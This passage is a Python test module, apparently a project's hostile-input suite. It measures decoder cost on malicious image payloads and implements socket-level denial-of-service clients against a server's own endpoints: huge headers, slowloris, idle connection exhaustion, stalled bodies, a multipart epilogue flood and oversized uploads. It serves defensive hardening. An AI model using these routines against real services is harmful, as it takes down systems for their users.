    """Runs in the measuring child: report readiness, decode the file once, report the outcome (JSON lines)."""
    module = importlib.import_module(decoder)
    data = Path(path).read_bytes()
    limits = module.ImageLimits()

    def report(event: str, **fields: object) -> None:
        usage = resource.getrusage(resource.RUSAGE_SELF)
        record = {"event": event, "t": time.time(), "cpu": usage.ru_utime + usage.ru_stime, "rss_kb": _peak_rss_kb()}
        print(json.dumps({**record, **fields}), flush=True)

    report("ready")
    try:
        decoded = module.decode_image(data, limits, min_short_side=MIN_SHORT_SIDE)
        width, height = decoded.image.size
        outcome = f"decoded {decoded.width}x{decoded.height} ({decoded.format}) as {width}x{height}"
    except Exception as exc:  # the outcome is what is being measured
        outcome = f"{type(exc).__name__}: {str(exc)[:160]}"
    report("done", outcome=outcome)
    return 0


def _read_events(path: Path) -> dict[str, dict[str, Any]]:
    events: dict[str, dict[str, Any]] = {}
    with contextlib.suppress(OSError):
        for line in path.read_text(errors="replace").splitlines():
            with contextlib.suppress(ValueError):
                record = json.loads(line)
                if isinstance(record, dict) and "event" in record:
                    events[record["event"]] = record
    return events


def measure_bytes(
    name: str, data: bytes, cap_s: float = 60.0, decoder: str = "backend.classifier._images"
) -> Measurement:
    """Decode ``data`` in a fresh ``python -m tests.hostile.attacks decode`` process; kill it after ``cap_s``.

    CPU seconds come from the child's rusage (``os.wait4``) minus what it had used when it was ready to
    decode (interpreter start, imports, reading the file); peak RSS is the child's VmHWM, reported by the
    child when it finishes or sampled by this process every 20 ms until it is killed.
    """
    root = Path(__file__).resolve().parents[2]
    with tempfile.TemporaryDirectory(prefix="attack-") as folder:
        image, out, err = Path(folder) / "payload", Path(folder) / "out", Path(folder) / "err"
        image.write_bytes(data)
        command = [sys.executable, "-m", "tests.hostile.attacks", "decode", str(image), "--decoder", decoder]
        with out.open("wb") as stdout, err.open("wb") as stderr:
            process = subprocess.Popen(command, cwd=root, stdout=stdout, stderr=stderr)
        started = time.time()
        killed = False
        sampled_kb = 0
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            sampled_kb = max(sampled_kb, _peak_rss_kb(process.pid))
            ready = _read_events(out).get("ready")
            deadline = (float(ready["t"]) if ready else started + 30.0) + cap_s
            if time.time() > deadline:
                sampled_kb = max(sampled_kb, _peak_rss_kb(process.pid))
                os.kill(process.pid, signal.SIGKILL)
                killed = True
                pid, status, usage = os.wait4(process.pid, 0)
                break
            time.sleep(0.02)
        ended = time.time()
        process.returncode = os.waitstatus_to_exitcode(status)
        events = _read_events(out)
        stderr_tail = err.read_text(errors="replace").strip().splitlines()[-1:]
    ready, done = events.get("ready"), events.get("done")
    cpu_before = float(ready["cpu"]) if ready else 0.0
    rss_before = float(ready["rss_kb"]) / 1024 if ready else 0.0
    cpu = usage.ru_utime + usage.ru_stime - cpu_before
    if done is not None:
        wall = float(done["t"]) - float(ready["t"]) if ready else ended - started
        outcome = str(done["outcome"])
        peak_kb = max(sampled_kb, int(done["rss_kb"]))
    else:
        wall = ended - (float(ready["t"]) if ready else started)
        peak_kb = sampled_kb
        if killed:
            outcome = f"killed at cap ({cap_s:g} s)"
        else:
            outcome = f"child died (exit {process.returncode}): {' '.join(stderr_tail)[:160]}"
    return Measurement(name, len(data), wall, cpu, peak_kb / 1024, rss_before, outcome)


def format_table(rows: Sequence[Measurement]) -> str:
    lines = [
        "| payload | bytes | wall s | CPU s | peak RSS MB | above baseline MB | outcome |",
        "| --- | ---: | ---: | ---: | ---: | ---: | --- |",
    ]
    for row in rows:
        lines.append(
            f"| `{row.name}` | {row.size:,} | {row.wall_s:.2f} | {row.cpu_s:.2f} | {row.peak_rss_mb:,.0f} | "
            f"{row.extra_rss_mb:,.0f} | {row.outcome} |"
        )
    return "\n".join(lines)


# --- socket-level attacks ---------------------------------------------------------------------------------

Ending = Literal["open", "closed", "reset", "timeout", "refused"]


@dataclass(frozen=True)
class WireResult:
    """What one raw HTTP exchange with the server came to."""

    status: int | None  # status code of the server's answer, None if no status line arrived
    sent: int  # bytes the client sent
    received: int  # bytes the client received
    seconds: float  # from connecting until the answer was complete, or the connection ended, or we gave up
    ended: Ending  # open: still open after a complete answer; closed: EOF; reset: ECONNRESET/EPIPE;
    # timeout: nothing conclusive before our deadline; refused: could not connect
    head: bytes = b""  # the answer's status line and headers
    body: bytes = b""  # the answer's body (as much as arrived, at most 64 KiB)
    sent_before_answer: int | None = None  # bytes sent when the first byte of the answer arrived
    detail: str = ""  # what else was observed (the exception that ended it, ...)

    def json(self) -> Any:
        """The body parsed as JSON, or None."""
        try:
            return json.loads(self.body)
        except ValueError:
            return None


_RESETS = (ConnectionResetError, BrokenPipeError, ConnectionAbortedError)
_MAX_BODY = 64 * 1024


class _Exchange:
    """One connection: a reader task collecting the answer while the caller sends."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, started: float) -> None:
        self.reader, self.writer, self.started = reader, writer, started
        self.sent = 0
        self.received = bytearray()
        self.sent_before_answer: int | None = None
        self.ended: Ending | None = None
        self.answered_at: float | None = None  # when the whole answer had arrived
        self.detail = ""
        self.complete = asyncio.Event()  # a whole answer arrived, or the connection ended
        self.task = asyncio.create_task(self._read())

    async def _read(self) -> None:
        try:
            while True:
                data = await self.reader.read(65_536)
                if not data:
                    self.ended = "closed"
                    break
                if self.sent_before_answer is None:
                    self.sent_before_answer = self.sent
                self.received += data
                if self.answered_at is None and _answer_complete(bytes(self.received)):
                    self.answered_at = time.monotonic()
                    self.complete.set()
        except _RESETS as exc:
            self.ended, self.detail = "reset", self.detail or repr(exc)
        finally:
            self.complete.set()

    async def send(self, data: bytes, stall_s: float) -> bool:
        """Send ``data``; False when the connection is gone (reset, closed) or sending stalls past ``stall_s``."""
        if self.ended is not None:
            return False
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), stall_s)
        except _RESETS as exc:
            self.ended, self.detail = "reset", repr(exc)
            return False
        except TimeoutError:
            self.detail = f"sending stalled for {stall_s:g} s after {self.sent} bytes"
            return False
        self.sent += len(data)
        return True

    async def finish(self, max_wait_s: float, linger: float = 0.5) -> WireResult:
        """Wait up to ``max_wait_s`` for a complete answer (then ``linger`` for the server to close); close."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.complete.wait(), max_wait_s)
        if self.ended is None and _answer_complete(bytes(self.received)):
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(asyncio.shield(self.task), linger)
        seconds = (self.answered_at or time.monotonic()) - self.started
        ended: Ending = self.ended or ("open" if _answer_complete(bytes(self.received)) else "timeout")
        self.task.cancel()
        with contextlib.suppress(asyncio.CancelledError, *_RESETS):
            await self.task
        self.writer.close()
        with contextlib.suppress(Exception):
            await self.writer.wait_closed()
        head, _, body = bytes(self.received).partition(b"\r\n\r\n")
        return WireResult(
            status=_status(head),
            sent=self.sent,
            received=len(self.received),
            seconds=seconds,
            ended=ended,
            head=head,
            body=body[:_MAX_BODY],
            sent_before_answer=self.sent_before_answer,
            detail=self.detail,
        )


def _status(head: bytes) -> int | None:
    parts = head.split(b"\r\n", 1)[0].split(b" ")
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/") and parts[1].isdigit():
        return int(parts[1])
    return None


def _answer_complete(data: bytes) -> bool:
    """True once a whole answer with a Content-Length (or a chunked one's last chunk) has arrived."""
    head, separator, body = data.partition(b"\r\n\r\n")
    if not separator:
        return False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length" and value.strip().isdigit():
            return len(body) >= int(value)
        if name.strip().lower() == b"transfer-encoding" and b"chunked" in value.lower():
            return body.endswith(b"0\r\n\r\n")
    return False


async def _connect(host: str, port: int, max_wait_s: float) -> _Exchange | WireResult:
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), max_wait_s)
    except (OSError, TimeoutError) as exc:
        return WireResult(None, 0, 0, time.monotonic() - started, "refused", detail=repr(exc))
    return _Exchange(reader, writer, started)


def _request_head(method: str, path: str, host: str, headers: dict[str, str]) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *(f"{k}: {v}" for k, v in headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


async def huge_header(
    host: str, port: int, total_bytes: int = 1024 * 1024, chunk: int = 8192, max_wait_s: float = 30.0
) -> WireResult:
    """``GET /health`` whose request head grows to ``total_bytes`` in one header line, sent ``chunk`` bytes at a time.

    A server should refuse (400/431) or close once the head passes its limit, not buffer all of it.
    Sending stops as soon as the server answers or the connection ends; ``sent`` says how far it got.
    (uvicorn with httptools has no such limit: it buffers the whole line, at a cost that grows faster than
    its length, on the event loop: 16 MB took 0.75 s, 100 MB 14 s, 512 MB 407 s and 1.3 GB of memory.)
    """
    exchange = await _connect(host, port, max_wait_s)
    if isinstance(exchange, WireResult):
        return exchange
    await exchange.send(f"GET /health HTTP/1.1\r\nHost: {host}\r\nX-Huge: ".encode(), max_wait_s)
    filler = b"a" * chunk
    while exchange.sent < total_bytes and not exchange.complete.is_set():
        if not await exchange.send(filler[: min(chunk, total_bytes - exchange.sent)], max_wait_s):
            break
        await asyncio.sleep(0)
    if not exchange.complete.is_set():
        await exchange.send(b"\r\n\r\n", max_wait_s)
    return await exchange.finish(max_wait_s)


async def slow_headers(
    host: str, port: int, interval: float = 1.0, max_seconds: float = 120.0, path: str = "/health"
) -> WireResult:
    """Slowloris: a request line, then one byte of a header every ``interval`` seconds, never finished.

    ``seconds`` is how long the server kept the connection; ``ended`` is ``timeout`` when it was still
    open after ``max_seconds`` (a server without a header timeout keeps it as long as bytes trickle in).
    """
    exchange = await _connect(host, port, 10.0)
    if isinstance(exchange, WireResult):
        return exchange
    await exchange.send(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode(), 10.0)
    deadline = exchange.started + max_seconds
    while time.monotonic() < deadline and not exchange.complete.is_set():
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(exchange.complete.wait(), min(interval, max(0.0, deadline - time.monotonic())))
        if exchange.complete.is_set() or not await exchange.send(b"a", 10.0):
            break
    return await exchange.finish(0.0)


@dataclass
class IdleConnections:
    """Connections opened by ``idle_connections`` that never send a byte."""

    requested: int
    streams: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = field(default_factory=list)
    refused: int = 0
    errors: list[str] = field(default_factory=list)

    @property
    def opened(self) -> int:
        return len(self.streams)

    async def still_open(self, wait: float = 0.05) -> int:
        """How many are still open and silent (the server neither closed them nor answered)."""

        async def silent(reader: asyncio.StreamReader) -> bool:
            if reader.at_eof():
                return False
            try:
                await asyncio.wait_for(reader.read(1), wait)
            except TimeoutError:
                return True
            except _RESETS:
                return False
            return False  # EOF, or an answer (such as 408): either way the server is done with it

        results = await asyncio.gather(*(silent(reader) for reader, _ in self.streams))
        return sum(results)


@contextlib.asynccontextmanager
async def idle_connections(
    host: str, port: int, n: int, connect_s: float = 5.0, batch: int = 100
) -> AsyncIterator[IdleConnections]:
    """Open ``n`` TCP connections that never send anything; close them all on exit.

    A server that gives each connection a slot (a thread, a worker) without a read timeout runs out of
    them; an asyncio server should keep serving others. ``n`` is bounded by this process's open-file
    limit (``ulimit -n``).
    """
    idle = IdleConnections(n)
    try:
        for start in range(0, n, batch):
            attempts = [
                asyncio.wait_for(asyncio.open_connection(host, port), connect_s) for _ in range(min(batch, n - start))
            ]
            for result in await asyncio.gather(*attempts, return_exceptions=True):
                if isinstance(result, BaseException):
                    idle.refused += 1
                    idle.errors.append(repr(result))
                else:
                    idle.streams.append(result)
        yield idle
    finally:
        for _, writer in idle.streams:
            writer.close()
        for _, writer in idle.streams:
            with contextlib.suppress(Exception):
                await writer.wait_closed()


async def stalled_body(
    host: str,
    port: int,
    declared: int = 1_000_000,
    sent: int = 1000,
    max_wait_s: float = 60.0,
    path: str = "/predict",
) -> WireResult:
    """A POST announcing ``declared`` bytes (Content-Length) that sends ``sent`` bytes and then nothing.

    The server should answer (504/408) after its request timeout rather than hold the connection forever.
    """
    exchange = await _connect(host, port, 10.0)
    if isinstance(exchange, WireResult):
        return exchange
    head = _request_head(
        "POST", path, host, {"Content-Type": "application/octet-stream", "Content-Length": str(declared)}
    )
    if await exchange.send(head, 10.0):
        await exchange.send(b"\xff\xd8" + b"\x00" * max(0, sent - 2), 10.0)
    return await exchange.finish(max_wait_s)


def _multipart_body(image: bytes, boundary: str, filename: str = "image.jpg") -> bytes:
    return (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            "Content-Type: image/jpeg\r\n\r\n"
        ).encode()
        + image
        + f"\r\n--{boundary}--\r\n".encode()
    )


async def _post_streamed(
    host: str, port: int, path: str, headers: dict[str, str], parts: list[bytes], chunk: int, max_wait_s: float
) -> WireResult:
    """POST ``parts`` (sent ``chunk`` bytes at a time), stopping early if the server answers or goes away."""
    exchange = await _connect(host, port, 10.0)
    if isinstance(exchange, WireResult):
        return exchange
    total = sum(len(part) for part in parts)
    if not await exchange.send(_request_head("POST", path, host, {**headers, "Content-Length": str(total)}), 10.0):
        return await exchange.finish(max_wait_s)
    for part in parts:
        view = memoryview(part)
        for start in range(0, len(part), chunk):
            if exchange.complete.is_set() or not await exchange.send(bytes(view[start : start + chunk]), max_wait_s):
                return await exchange.finish(max_wait_s)
    return await exchange.finish(max_wait_s)


async def epilogue_flood(
    host: str,
    port: int,
    image: bytes,
    after_close_bytes: int = 50 * 1024 * 1024,
    boundary: str = "epilogue-flood-boundary",
    chunk: int = 65_536,
    max_wait_s: float = 60.0,
    path: str = "/predict",
) -> WireResult:
    """A valid multipart upload of ``image`` followed by ``after_close_bytes`` of junk after the closing boundary.

    RFC 2046 calls what follows the closing delimiter the epilogue and says to ignore it; a server that
    keeps reading (and parsing) it can be kept busy by one request with a small image. The answer should
    come once the closing boundary is seen (``sent_before_answer`` is then small), or the junk should be
    refused.
    """
    body = _multipart_body(image, boundary)
    junk = (b"epilogue junk " * (chunk // 14 + 1))[:chunk]
    parts = [body] + [junk] * (after_close_bytes // chunk) + [junk[: after_close_bytes % chunk]]
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    return await _post_streamed(host, port, path, headers, parts, chunk, max_wait_s)


async def long_boundary(
    host: str, port: int, image: bytes, length: int = 300, max_wait_s: float = 30.0, path: str = "/predict"
) -> WireResult:
    """A valid multipart upload of ``image`` whose boundary is ``length`` characters (RFC 2046: at most 70)."""
    boundary = ("b" * length)[:length]
    body = _multipart_body(image, boundary)
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    return await _post_streamed(host, port, path, headers, [body], 65_536, max_wait_s)


async def early_413_read(
    host: str,
    port: int,
    body_bytes: int = 25 * 1024 * 1024,
    chunk: int = 65_536,
    max_wait_s: float = 60.0,
    path: str = "/predict",
    content_type: str = "image/jpeg",
) -> WireResult:
    """POST ``body_bytes`` (over the image limit) without ``Expect: 100-continue``, the way httpx and requests do.

    Like those clients, it sends the whole body before reading anything, on a plain socket with no
    background reader, and when sending fails (the server answered 413 and closed) it still tries to read
    the answer, as httpcore does. ``status`` and ``json()`` say whether the client got to see the 413 and
    its JSON; ``ended`` ``reset`` with no status means the server's close discarded its own answer (a TCP
    reset because the server closed with unread upload data), so the client only saw a connection error.
    ``sent_before_answer`` stays None: like those clients, this one does not look while it sends.
    """
    loop = asyncio.get_running_loop()
    started = time.monotonic()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sent, received = 0, bytearray()
    ended: Ending | None = None
    detail = ""
    try:
        try:
            await asyncio.wait_for(loop.sock_connect(sock, (host, port)), 10.0)
        except (OSError, TimeoutError) as exc:
            return WireResult(None, 0, 0, time.monotonic() - started, "refused", detail=repr(exc))
        head = _request_head("POST", path, host, {"Content-Type": content_type, "Content-Length": str(body_bytes)})
        filler = b"\x00" * chunk
        try:
            await asyncio.wait_for(loop.sock_sendall(sock, head), max_wait_s)
            sent += len(head)
            body_sent = 0
            while body_sent < body_bytes:
                piece = (b"\xff\xd8" + filler)[:chunk] if body_sent == 0 else filler
                piece = piece[: body_bytes - body_sent]
                await asyncio.wait_for(loop.sock_sendall(sock, piece), max_wait_s)
                body_sent += len(piece)
                sent += len(piece)
        except _RESETS as exc:
            detail = f"sending failed after {sent} bytes: {exc!r}"
        except TimeoutError:
            detail = f"sending stalled for {max_wait_s:g} s after {sent} bytes"
        deadline = time.monotonic() + max_wait_s
        while not _answer_complete(bytes(received)):
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                ended = "timeout"
                break
            try:
                data = await asyncio.wait_for(loop.sock_recv(sock, 65_536), remaining)
            except _RESETS as exc:
                ended = "reset"
                detail = f"{detail}; reading: {exc!r}" if detail else f"reading: {exc!r}"
                break
            except TimeoutError:
                ended = "timeout"
                break
            if not data:
                ended = "closed"
                break
            received += data
        if ended is None:
            ended = "open"
    finally:
        sock.close()
    head_bytes, _, body = bytes(received).partition(b"\r\n\r\n")
    return WireResult(
        status=_status(head_bytes),
        sent=sent,
        received=len(received),
        seconds=time.monotonic() - started,
        ended=ended,
        head=head_bytes,
        body=body[:_MAX_BODY],
        sent_before_answer=None,
        detail=detail,
    )


# --- command line ----------------------------------------------------------------------------------------


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.hostile.attacks", description=__doc__.split("\n")[0])
    commands = parser.add_subparsers(dest="command", required=True)
    measure = commands.add_parser("measure", help="decode each payload in its own process and print the costs")
    measure.add_argument("names", nargs="*", help="payloads to measure (default: all)")
    measure.add_argument("--cap", type=float, default=60.0, help="seconds a decode may run before it is killed")
    measure.add_argument("--decoder", default="backend.classifier._images", help="module with decode_image")
    measure.add_argument("--json", action="store_true", help="print JSON lines instead of a table")
    commands.add_parser("list", help="print the payload names and what each one is")
    write = commands.add_parser("write", help="write every payload to a folder")
    write.add_argument("folder", type=Path)
    decode = commands.add_parser("decode", help="(internal) decode one file and report, for measure")
    decode.add_argument("path")
    decode.add_argument("--decoder", default="backend.classifier._images")
    args = parser.parse_args(argv)

    if args.command == "decode":
        return _child_decode(args.path, args.decoder)
    if args.command == "list":
        for item in PAYLOADS:
            print(f"{item.name:32} {'(legit) ' if item.legit else ''}{item.description}")
        return 0
    if args.command == "write":
        args.folder.mkdir(parents=True, exist_ok=True)
        for item in PAYLOADS:
            (args.folder / f"{item.name}.bin").write_bytes(item.make())
        print(f"wrote {len(PAYLOADS)} payloads to {args.folder}")
        return 0
    selected = [payload(name) for name in args.names] if args.names else list(PAYLOADS)
    rows = []
    for item in selected:
        data = item.make()
        row = measure_bytes(item.name, data, args.cap, args.decoder)
        rows.append(row)
        if args.json:
            print(json.dumps({**row.__dict__, "extra_rss_mb": row.extra_rss_mb, "legit": item.legit}), flush=True)
        else:
            print(
                f"{row.name}: {row.size:,} bytes, {row.wall_s:.2f} s wall, {row.cpu_s:.2f} s CPU, "
                f"peak {row.peak_rss_mb:,.0f} MB (+{row.extra_rss_mb:,.0f}), {row.outcome}",
                file=sys.stderr,
                flush=True,
            )
    if not args.json:
        print(format_table(rows))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
